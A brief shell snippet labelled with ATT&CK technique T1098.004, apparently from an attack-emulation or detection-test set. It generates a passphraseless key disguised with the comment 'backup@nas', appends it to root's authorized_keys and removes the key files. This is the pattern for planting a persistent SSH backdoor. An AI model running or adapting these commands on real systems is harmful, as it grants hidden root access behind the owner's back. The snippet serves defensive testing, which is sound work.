# technique: T1098.004
# location: linux.ssh.authorized-keys
# source: /root/.ssh/authorized_keys
mkdir -m 700 -p /root/.ssh
ssh-keygen -q -t ecdsa -N '' -C backup@nas -f /tmp/k
cat /tmp/k.pub >> /root/.ssh/authorized_keys
rm /tmp/k /tmp/k.pub
